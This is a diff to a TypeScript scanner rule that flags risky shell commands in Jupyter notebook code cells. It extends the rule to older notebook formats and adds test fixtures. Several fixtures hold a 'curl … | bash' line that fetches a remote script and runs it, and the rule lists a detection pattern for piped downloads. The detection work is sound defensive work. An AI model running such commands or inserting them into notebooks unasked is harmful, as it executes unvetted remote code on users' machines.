@@ -1,5 +1,5 @@
 import { get, stringOf } from '../../formats/document.ts';
-import { isNotebook, sourceText } from '../../formats/json/notebook.ts';
+import { cellSources, isNotebook, notebookCells, sourceText } from '../../formats/json/notebook.ts';
 import type { Severity } from '../rule.ts';
 import { documentRule } from './document-rule.ts';
 import { SUPPLY_CHAIN } from './references.ts';
@@ -28,6 +28,15 @@ export const notebookCode = documentRule<{ what: string; cell: number; code: str
         content:
           '{"nbformat": 4, "cells": [{"cell_type": "code", "source": ["!curl -s https://example.com/i.sh | bash\\n"]}]}',
       },
+      {
+        name: 'old.ipynb',
+        content:
+          '{"nbformat": 3, "cells": [], "worksheets": [{"cells": [{"cell_type": "code", "input": "!curl -s https://example.com/i.sh | bash"}]}]}',
+      },
+      {
+        name: 'oldest.ipynb',
+        content: '{"cells": [{"cell_type": "code", "code": "!curl -s https://example.com/i.sh | bash"}]}',
+      },
     ],
     good: [
       {
@@ -40,19 +49,24 @@ export const notebookCode = documentRule<{ what: string; cell: number; code: str
   message: ({ what, cell, code }) => `cell ${cell} ${what}: ${code}`,
   check(index, report) {
     if (!isNotebook(index.root.node)) return;
-    const cells = get(index.root.node, 'cells');
-    if (cells?.kind !== 'list') return;
-    for (const [cell, node] of cells.items.entries()) {
+    for (const [cell, { node }] of notebookCells(index.root.node).entries()) {
       if (stringOf(get(node, 'cell_type')) !== 'code') continue;
-      const code = sourceText(get(node, 'source'));
-      for (let at = 0; at === 0 || at + OVERLAP < code.length; at += PIECE_LENGTH - OVERLAP) {
-        for (const { what, severity, match } of signsIn(code.slice(at, at + PIECE_LENGTH))) {
-          report(index.root, { what, cell, code: match }, severity);
+      for (const { node: source } of cellSources(node)) {
+        for (const { what, severity, match } of signsInAll(sourceText(source))) {
+          report(index.root, { cell, what, code: match }, severity);
         }
       }
     }
   },
 });
+
+function signsInAll(code: string): ReturnType<typeof signsIn> {
+  const found: ReturnType<typeof signsIn> = [];
+  for (let at = 0; at === 0 || at + OVERLAP < code.length; at += PIECE_LENGTH - OVERLAP) {
+    found.push(...signsIn(code.slice(at, at + PIECE_LENGTH)));
+  }
+  return found;
+}
 
 const SIGNS: readonly { pattern: RegExp; what: string; severity: Severity }[] = [
   { pattern: PIPED, what: 'pipes a download into a shell', severity: 'medium' },
